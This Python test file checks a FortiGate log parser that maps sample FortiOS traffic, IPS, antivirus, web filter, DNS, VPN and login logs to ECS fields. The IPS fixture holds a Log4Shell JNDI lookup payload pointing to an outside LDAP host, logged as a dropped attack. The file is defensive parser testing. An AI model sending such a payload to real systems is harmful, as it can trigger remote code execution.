"""FortiGate parser: FortiOS traffic, UTM and event logs to ECS fields."""

from __future__ import annotations

import contextlib
from datetime import UTC, datetime
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given
from hypothesis import strategies as st

from socflow.normalize.ecs import ECSDocument, get
from socflow.normalize.fortigate import FORTIGATE, parse, sniff
from socflow.normalize.registry import ParseContext, ParseError

CONTEXT = ParseContext(received_at=datetime(2026, 12, 3, 18, 0, tzinfo=UTC))
EVENT_NS = int(datetime(2026, 12, 3, 17, 5, 11, 123456, tzinfo=UTC).timestamp()) * 10**9 + 123456789

TRAFFIC = (
    f'date=2026-12-03 time=18:05:11 devname="FGT-EDGE-01" devid="FGT60FTK20001234" eventtime={EVENT_NS} '
    'tz="+0100" logid="0000000013" type="traffic" subtype="forward" level="notice" vd="root" '
    'srcip=192.0.2.10 srcport=51514 srcintf="port1" srcintfrole="lan" dstip=203.0.113.50 dstport=443 '
    'dstintf="wan1" dstintfrole="wan" srcmac="00:09:0f:aa:bb:cc" sessionid=4321987 proto=6 action="close" '
    'policyid=3 policytype="policy" poluuid="3b7a1c2e-5d4f-51ee-8e2b-1a2b3c4d5e6f" policyname="LAN-to-WAN" '
    'service="HTTPS" dstcountry="Reserved" srccountry="Reserved" trandisp="snat" transip=198.51.100.2 '
    'transport=61514 duration=12 sentbyte=1520 rcvdbyte=6842 sentpkt=12 rcvdpkt=10 appcat="unscanned" '
    'user="jdoe"'
)
DENY = (
    'date=2026-12-03 time=17:06:00 devname="FGT-EDGE-01" devid="FGT60FTK20001234" logid="0000000013" '
    'type="traffic" subtype="forward" level="notice" vd="root" srcip=198.51.100.77 srcport=40404 '
    'srcintf="wan1" dstip=192.0.2.25 dstport=3389 dstintf="port2" sessionid=4322000 proto=6 '
    'action="deny" policyid=0 policytype="policy" service="RDP" trandisp="noop" duration=0 sentbyte=0 '
    'rcvdbyte=0 sentpkt=0 rcvdpkt=0 msg="Denied by forward policy check (policy 0)"'
)
IPS = (
    'date=2026-12-03 time=18:05:11 devname="FGT-EDGE-01" devid="FGT60FTK20001234" tz="+0100" '
    'logid="0419016384" type="utm" subtype="ips" eventtype="signature" level="alert" vd="root" '
    'severity="high" srcip=198.51.100.77 srcport=40123 dstip=192.0.2.20 dstport=80 srcintf="wan1" '
    'dstintf="dmz" sessionid=998877 action="dropped" proto=6 service="HTTP" policyid=7 '
    'attack="Apache.Log4j.Error.Log.Remote.Code.Execution" attackid=51006 hostname="www.example.com" '
    'url="/?x=${jndi:ldap://198.51.100.77/a}" crlevel="critical" '
    'msg="applications3: Apache.Log4j.Error.Log.Remote.Code.Execution,"'
)
VIRUS = (
    'date=2026-12-03 time=17:07:30 devname="FGT-EDGE-01" devid="FGT60FTK20001234" logid="0211008192" '
    'type="utm" subtype="virus" eventtype="infected" level="warning" vd="root" srcip=203.0.113.80 '
    'srcport=80 dstip=192.0.2.44 dstport=51600 srcintf="wan1" dstintf="port1" proto=6 service="HTTP" '
    'policyid=3 action="blocked" virus="EICAR_TEST_FILE" virusid=2172 filename="eicar.com" '
    'hostname="downloads.example.com" url="/files/eicar.com" msg="File is infected."'
)
WEBFILTER = (
    'date=2026-12-03 time=17:08:00 devname="FGT-EDGE-01" devid="FGT60FTK20001234" logid="0316013056" '
    'type="utm" subtype="webfilter" eventtype="ftgd_blk" level="warning" vd="root" policyid=3 '
    'srcip=192.0.2.44 srcport=51700 srcintf="port1" dstip=203.0.113.99 dstport=443 dstintf="wan1" proto=6 '
    'service="HTTPS" hostname="gambling.example.org" action="blocked" reqtype="direct" url="/" '
    'catdesc="Gambling" user="EXAMPLE\\\\jdoe" msg="URL belongs to a denied category in policy"'
)
ADMIN_LOGIN = (
    'date=2026-12-03 time=17:05:11 devname="FGT-EDGE-01" devid="FGT60FTK20001234" logid="0100032002" '
    'type="event" subtype="system" level="alert" vd="root" logdesc="Admin login failed" sn="0" '
    'user="admin" ui="https(198.51.100.5)" method="https" srcip=198.51.100.5 dstip=192.0.2.1 '
    'action="login" status="failed" reason="passwd_invalid" '
    'msg="Administrator admin login failed from https(198.51.100.5) because of invalid password"'
)


def _parse(text: str, context: ParseContext = CONTEXT) -> ECSDocument:
    doc = parse(text, context)
    assert doc is not None, text
    return doc


def test_fortigate_traffic_maps_network_fields() -> None:
    doc = _parse(TRAFFIC)
    assert get(doc, "source.ip") == "192.0.2.10"
    assert get(doc, "source.port") == 51514
    assert get(doc, "source.mac") == "00-09-0F-AA-BB-CC"
    assert get(doc, "destination.ip") == "203.0.113.50"
    assert get(doc, "destination.port") == 443
    assert get(doc, "observer.ingress.interface.name") == "port1"
    assert get(doc, "observer.egress.interface.name") == "wan1"
    assert get(doc, "network.transport") == "tcp"
    assert get(doc, "network.iana_number") == "6"
    assert get(doc, "network.protocol") == "https"
    assert get(doc, "source.nat.ip") == "198.51.100.2"
    assert get(doc, "source.nat.port") == 61514
    assert get(doc, "source.bytes") == 1520
    assert get(doc, "destination.bytes") == 6842
    assert get(doc, "network.bytes") == 8362
    assert get(doc, "network.packets") == 22
    assert get(doc, "event.duration") == 12_000_000_000
    assert get(doc, "source.user.name") == "jdoe"
    assert get(doc, "rule.id") == "3"
    assert get(doc, "rule.name") == "LAN-to-WAN"
    assert get(doc, "rule.uuid") == "3b7a1c2e-5d4f-51ee-8e2b-1a2b3c4d5e6f"
    assert get(doc, "fortinet.firewall.sessionid") == "4321987"
    assert get(doc, "related.ip") == ["192.0.2.10", "203.0.113.50", "198.51.100.2"]


def test_fortigate_traffic_maps_event_and_observer() -> None:
    doc = _parse(TRAFFIC)
    assert get(doc, "event.action") == "close"
    assert get(doc, "event.type") == ["connection", "end", "allowed"]
    assert get(doc, "event.category") == ["network"]
    assert get(doc, "event.kind") == "event"
    assert get(doc, "event.code") == "0000000013"
    assert get(doc, "log.level") == "notice"
    assert get(doc, "event.severity") == 5
    assert get(doc, "observer.vendor") == "Fortinet"
    assert get(doc, "observer.product") == "FortiGate"
    assert get(doc, "observer.name") == "FGT-EDGE-01"
    assert get(doc, "observer.serial_number") == "FGT60FTK20001234"
    assert get(doc, "fortinet.firewall.type") == "traffic"
    assert get(doc, "fortinet.firewall.subtype") == "forward"
    assert get(doc, "event.dataset") == "fortinet.firewall"


def test_fortigate_eventtime_in_nanoseconds_wins_over_date_and_time() -> None:
    assert get(_parse(TRAFFIC), "@timestamp") == "2026-12-03T17:05:11.123456Z"


@pytest.mark.parametrize(
    ("eventtime", "expected"),
    [
        ("1796317511", "2026-12-03T17:05:11Z"),
        ("1796317511250", "2026-12-03T17:05:11.250000Z"),
        ("1796317511250001", "2026-12-03T17:05:11.250001Z"),
    ],
)
def test_fortigate_eventtime_seconds_millis_micros(eventtime: str, expected: str) -> None:
    doc = _parse(f'eventtime={eventtime} devname="F" logid="0000000013" type="traffic" srcip=192.0.2.1')
    assert get(doc, "@timestamp") == expected


def test_fortigate_date_time_with_tz_offset() -> None:
    assert get(_parse(IPS), "@timestamp") == "2026-12-03T17:05:11Z"


def test_fortigate_date_time_without_tz_uses_the_sender_zone() -> None:
    context = ParseContext(received_at=CONTEXT.received_at, zone=ZoneInfo("America/New_York"))
    assert get(_parse(DENY, context), "@timestamp") == "2026-12-03T22:06:00Z"


def test_fortigate_denied_traffic() -> None:
    doc = _parse(DENY)
    assert get(doc, "event.action") == "deny"
    assert get(doc, "event.type") == ["connection", "end", "denied"]
    assert get(doc, "message") == "Denied by forward policy check (policy 0)"
    assert get(doc, "network.protocol") == "rdp"
    assert get(doc, "source.nat") is None
    assert get(doc, "network.bytes") == 0


def test_fortigate_ips_is_an_alert_with_the_signature_as_rule() -> None:
    doc = _parse(IPS)
    assert get(doc, "event.kind") == "alert"
    assert get(doc, "event.category") == ["network", "intrusion_detection"]
    assert get(doc, "event.type") == ["connection", "denied"]
    assert get(doc, "rule.name") == "Apache.Log4j.Error.Log.Remote.Code.Execution"
    assert get(doc, "rule.id") == "51006"
    assert get(doc, "fortinet.firewall.policyid") == "7"
    assert get(doc, "url.domain") == "www.example.com"
    assert get(doc, "url.original") == "/?x=${jndi:ldap://198.51.100.77/a}"
    assert get(doc, "url.path") == "/"
    assert get(doc, "log.level") == "alert"
    assert get(doc, "event.severity") == 1


def test_fortigate_virus_maps_file_and_virus_name() -> None:
    doc = _parse(VIRUS)
    assert get(doc, "event.category") == ["network", "malware"]
    assert get(doc, "fortinet.firewall.virus") == "EICAR_TEST_FILE"
    assert get(doc, "rule.id") == "2172"
    assert get(doc, "file.name") == "eicar.com"
    assert get(doc, "url.path") == "/files/eicar.com"
    assert get(doc, "event.type") == ["connection", "denied"]


def test_fortigate_webfilter_maps_category_and_domain_user() -> None:
    doc = _parse(WEBFILTER)
    assert get(doc, "event.category") == ["network", "web"]
    assert get(doc, "event.kind") == "event"
    assert get(doc, "fortinet.firewall.catdesc") == "Gambling"
    assert get(doc, "destination.domain") == "gambling.example.org"
    assert get(doc, "source.user.name") == "jdoe"
    assert get(doc, "source.user.domain") == "example"


def test_fortigate_admin_login_failure_is_authentication() -> None:
    doc = _parse(ADMIN_LOGIN)
    assert get(doc, "event.category") == ["authentication"]
    assert get(doc, "event.type") == ["start"]
    assert get(doc, "event.outcome") == "failure"
    assert get(doc, "event.action") == "login"
    assert get(doc, "event.reason") == "passwd_invalid"
    assert get(doc, "user.name") == "admin"
    assert get(doc, "source.ip") == "198.51.100.5"
    assert get(doc, "destination.ip") == "192.0.2.1"
    assert get(doc, "fortinet.firewall.logdesc") == "Admin login failed"


def test_fortigate_system_event_without_login_is_host_info() -> None:
    doc = _parse(
        'date=2026-12-03 time=17:09:00 devname="FGT-EDGE-01" devid="FGT60FTK20001234" logid="0100032138" '
        'type="event" subtype="system" level="notice" vd="root" logdesc="Device rebooted" user="admin" '
        'ui="ssh(192.0.2.50)" action="reboot" msg="User admin rebooted the device from ssh(192.0.2.50)."'
    )
    assert get(doc, "event.category") == ["host"]
    assert get(doc, "event.type") == ["info"]
    assert get(doc, "source.ip") == "192.0.2.50"
    assert get(doc, "event.outcome") is None


def test_fortigate_quoted_values_keep_spaces_and_escaped_quotes() -> None:
    doc = _parse(
        'devname="FGT" logid="0100032001" type="event" subtype="system" level="information" '
        'msg="Administrator \\"admin\\" logged in successfully from https(192.0.2.5)" '
        'action="login" status="success" user="admin"'
    )
    assert get(doc, "message") == 'Administrator "admin" logged in successfully from https(192.0.2.5)'
    assert get(doc, "event.outcome") == "success"


def test_fortigate_without_type_is_a_parse_error() -> None:
    with pytest.raises(ParseError):
        parse('date=2026-12-03 time=17:05:11 devname="FGT" logid="0000000013" srcip=192.0.2.1', CONTEXT)


def test_fortigate_other_key_value_text_is_not_claimed() -> None:
    assert parse("user=alice action=login srcip=192.0.2.1", CONTEXT) is None
    assert parse("the words devname= and logid= in a sentence", CONTEXT) is None


@pytest.mark.parametrize("line", [TRAFFIC, DENY, IPS, VIRUS, WEBFILTER, ADMIN_LOGIN])
def test_fortigate_sniff_accepts_fortios_logs(line: str) -> None:
    assert sniff(line)


@pytest.mark.parametrize(
    "line",
    [
        "CEF:0|Fortinet|Fortigate|v7.2|0000000013|traffic:forward close|3|src=192.0.2.1",
        "LEEF:1.0|Vendor|Product|1.0|100|src=192.0.2.1\tdst=192.0.2.2",
        "%ASA-6-302013: Built inbound TCP connection 1 for outside:198.51.100.2/1 to inside:192.0.2.1/22",
        "src=192.0.2.1 dst=192.0.2.2 action=deny logid=5",
        'logid="0000000013" srcip=192.0.2.1 dstip=192.0.2.2 action=deny',
        'logid="0000000013" type="traffic" srcip=192.0.2.1',
        'ticket=4711 mytype="traffic" mysubtype="forward" logid="0000000013"',
    ],
)
def test_fortigate_sniff_refuses_other_formats(line: str) -> None:
    assert not sniff(line)


def test_fortigate_spec() -> None:
    assert FORTIGATE.name == "fortigate"
    assert FORTIGATE.dataset == "fortinet.firewall"
    assert FORTIGATE.wants_syslog_body


@given(st.text(max_size=300))
def test_fortigate_parse_never_raises_other_than_parse_error(text: str) -> None:
    with contextlib.suppress(ParseError):
        parse(text, CONTEXT)


@given(st.text(alphabet='abcdeilmnoprstvy=" 0123456789.:-+', max_size=200))
def test_fortigate_parse_survives_fortios_shaped_garbage(text: str) -> None:
    with contextlib.suppress(ParseError):
        parse('devname="F" logid="1" type="traffic" ' + text, CONTEXT)


def test_fortigate_ipv6_traffic() -> None:
    doc = _parse(
        'date=2026-12-03 time=17:05:11 devname="FGT-EDGE-01" devid="FGT60FTK20001234" logid="0000000013" '
        'type="traffic" subtype="forward" level="notice" srcip=2001:db8::10 srcport=5000 '
        'dstip=2001:db8::20 dstport=443 proto=17 action="accept" service="udp/443"'
    )
    assert get(doc, "source.ip") == "2001:db8::10"
    assert get(doc, "destination.ip") == "2001:db8::20"
    assert get(doc, "network.transport") == "udp"
    assert get(doc, "network.protocol") is None
    assert get(doc, "fortinet.firewall.service") == "udp/443"


DNS_RESPONSE = (
    'date=2026-12-03 time=17:20:00 devname="FGT-BRANCH-02" devid="FGT40FTK20005678" logid="1501054802" '
    'type="utm" subtype="dns" eventtype="dns-response" level="notice" vd="root" policyid=5 sessionid=7001 '
    'srcip=192.0.2.61 srcport=50123 srcintf="internal" srcintfrole="lan" dstip=198.51.100.53 dstport=53 '
    'dstintf="wan2" dstintfrole="wan" proto=17 profile="branch-dns" xid=4711 qname="intranet.example.net" '
    'qtype="AAAA" qtypeval=28 qclass="IN" ipaddr="203.0.113.7, 2001:db8::7" msg="Domain is monitored" '
    'action="pass" cat=52 catdesc="Information Technology"'
)
APP_CTRL = (
    'date=2026-12-03 time=17:21:00 devname="FGT-BRANCH-02" devid="FGT40FTK20005678" logid="1059028704" '
    'type="utm" subtype="app-ctrl" eventtype="signature" level="information" vd="root" appid=15832 '
    'user="mrossi" group="finance" srcip=192.0.2.62 dstip=203.0.113.40 srcport=52000 dstport=443 '
    'srcintf="internal" srcintfrole="lan" dstintf="wan2" dstintfrole="wan" proto=6 service="SSL" '
    'direction="outgoing" policyid=5 sessionid=7002 applist="branch-apps" action="pass" '
    'appcat="Storage.Backup" '
    'app="Example.Drive" hostname="drive.example.com" url="/" msg="Storage.Backup: Example.Drive," '
    'scertcname="*.example.com" scertissuer="Example Issuing CA 2"'
)
VPN_IPSEC = (
    'date=2026-12-03 time=17:22:00 devname="FGT-BRANCH-02" devid="FGT40FTK20005678" logid="0101037124" '
    'type="event" subtype="vpn" level="error" vd="root" logdesc="IPsec phase 1 error" '
    'msg="IPsec phase 1 error" '
    'action="negotiate" remip=198.51.100.200 locip=203.0.113.2 remport=500 locport=500 outintf="wan2" '
    'user="N/A" group="N/A" xauthuser="N/A" assignip=N/A vpntunnel="to-hq" status="negotiate_error" '
    'reason="peer SA proposal not match local policy"'
)
SSL_VPN_UP = (
    'date=2026-12-03 time=17:23:00 devname="FGT-BRANCH-02" devid="FGT40FTK20005678" logid="0101039947" '
    'type="event" subtype="vpn" level="information" vd="root" logdesc="SSL VPN tunnel up" action="tunnel-up" '
    'tunneltype="ssl-tunnel" tunnelid=77 remip=198.51.100.201 tunnelip=10.212.134.200 user="mrossi" '
    'group="remote-staff" reason="tunnel established" msg="SSL tunnel established"'
)
FSSO_LOGON = (
    'date=2026-12-03 time=17:24:00 devname="FGT-BRANCH-02" devid="FGT40FTK20005678" logid="0102043014" '
    'type="event" subtype="user" level="notice" vd="root" logdesc="FSSO logon authentication status" '
    'srcip=192.0.2.63 user="lbianchi" server="dc-collector" action="FSSO-logon" '
    'msg="FSSO-logon event from FSSO_dc-collector: user lbianchi logged on 192.0.2.63"'
)


def test_fortigate_dns_filter_maps_question_answers_and_profile() -> None:
    doc = _parse(DNS_RESPONSE)
    assert get(doc, "event.action") == "dns-response"
    assert get(doc, "event.category") == ["network"]
    assert get(doc, "dns.question.name") == "intranet.example.net"
    assert get(doc, "dns.question.type") == "AAAA"
    assert get(doc, "dns.question.class") == "IN"
    assert get(doc, "dns.id") == "4711"
    assert get(doc, "dns.resolved_ip") == ["203.0.113.7", "2001:db8::7"]
    assert get(doc, "related.hosts") == ["intranet.example.net"]
    assert "2001:db8::7" in get(doc, "related.ip")
    assert get(doc, "rule.ruleset") == "branch-dns"
    assert get(doc, "rule.category") == "Information Technology"
    assert get(doc, "network.direction") == "outbound"


def test_fortigate_app_control_maps_sensor_certificate_and_group() -> None:
    doc = _parse(APP_CTRL)
    assert get(doc, "event.action") == "signature"
    assert get(doc, "event.type") == ["connection", "allowed"]
    assert get(doc, "event.outcome") == "success"
    assert get(doc, "rule.ruleset") == "branch-apps"
    assert get(doc, "rule.category") == "Storage.Backup"
    assert get(doc, "source.user.group.name") == "finance"
    assert get(doc, "tls.server.x509.subject.common_name") == ["*.example.com"]
    assert get(doc, "tls.server.x509.issuer.common_name") == ["Example Issuing CA 2"]


def test_fortigate_traffic_policy_type_is_the_ruleset_and_roles_give_direction() -> None:
    doc = _parse(TRAFFIC)
    assert get(doc, "rule.ruleset") == "policy"
    assert get(doc, "network.direction") == "outbound"
    inbound = TRAFFIC.replace('srcintfrole="lan"', 'srcintfrole="wan"').replace(
        'dstintfrole="wan"', 'dstintfrole="dmz"'
    )
    assert get(_parse(inbound), "network.direction") == "inbound"


def test_fortigate_traffic_blocked_by_a_security_profile_is_denied() -> None:
    doc = _parse(TRAFFIC.replace('appcat="unscanned"', 'appcat="Video/Audio" utmaction="block"'))
    assert get(doc, "event.type") == ["connection", "end", "denied"]
    assert get(doc, "event.outcome") is None


def test_fortigate_session_start_log_is_a_start() -> None:
    doc = _parse(TRAFFIC.replace('action="close"', 'action="start"'))
    assert get(doc, "event.type") == ["connection", "start", "allowed"]


def test_fortigate_ipsec_error_has_the_peer_as_source_and_fails() -> None:
    doc = _parse(VPN_IPSEC)
    assert get(doc, "event.category") == ["network"]
    assert get(doc, "event.type") == ["connection"]
    assert get(doc, "event.outcome") == "failure"
    assert get(doc, "source.ip") == "198.51.100.200"
    assert get(doc, "source.port") == 500
    assert get(doc, "destination.ip") == "203.0.113.2"
    assert get(doc, "destination.port") == 500
    assert get(doc, "rule.description") == "IPsec phase 1 error"
    assert get(doc, "user") is None  # N/A means no user
    assert get(doc, "source.user") is None


def test_fortigate_ssl_vpn_tunnel_up_maps_user_group_and_tunnel_ip() -> None:
    doc = _parse(SSL_VPN_UP)
    assert get(doc, "source.ip") == "198.51.100.201"
    assert get(doc, "source.user.name") == "mrossi"
    assert get(doc, "source.user.group.name") == "remote-staff"
    assert get(doc, "related.ip") == ["198.51.100.201", "10.212.134.200"]
    assert get(doc, "event.reason") == "tunnel established"


def test_fortigate_fsso_logon_is_an_authentication_start() -> None:
    doc = _parse(FSSO_LOGON)
    assert get(doc, "event.category") == ["authentication"]
    assert get(doc, "event.type") == ["start"]
    assert get(doc, "event.outcome") == "success"
    assert get(doc, "user.name") == "lbianchi"
    assert get(doc, "source.ip") == "192.0.2.63"
    logoff = FSSO_LOGON.replace('action="FSSO-logon"', 'action="FSSO-logoff"')
    assert get(_parse(logoff), "event.type") == ["end"]


def test_fortigate_log_without_devname_is_still_parsed() -> None:
    doc = _parse(APP_CTRL.replace('devname="FGT-BRANCH-02" ', ""))
    assert get(doc, "observer.name") is None
    assert get(doc, "observer.serial_number") == "FGT40FTK20005678"
    assert get(doc, "source.ip") == "192.0.2.62"


def test_fortigate_sniff_accepts_fortios_lines_without_devname() -> None:
    line = APP_CTRL.replace('devname="FGT-BRANCH-02" ', "")
    assert sniff(line)
    assert sniff(SSL_VPN_UP.replace('devname="FGT-BRANCH-02" ', ""))
    assert get(_parse(line), "event.dataset") == "fortinet.firewall"


def test_fortigate_vpn_peer_and_user_are_not_overwritten_by_srcip_or_ui() -> None:
    line = SSL_VPN_UP.replace(
        "remip=198.51.100.201 ",
        'remip=198.51.100.201 srcip=10.212.134.200 ui="sslvpn_login(198.51.100.9)" direction="inbound" ',
    )
    doc = _parse(line)
    assert get(doc, "source.ip") == "198.51.100.201"
    assert get(doc, "network.direction") == "inbound"
    assert get(doc, "source.user.name") == "mrossi"
    assert get(doc, "user") is None  # one home for the tunnel's user: source.user, as in traffic logs
    assert get(doc, "fortinet.firewall.ui") == "sslvpn_login(198.51.100.9)"


def test_fortigate_vpn_without_remip_takes_srcip_as_the_peer() -> None:
    line = SSL_VPN_UP.replace("remip=198.51.100.201 ", "srcip=198.51.100.202 dir=outbound ")
    doc = _parse(line)
    assert get(doc, "source.ip") == "198.51.100.202"
    assert get(doc, "network.direction") == "outbound"
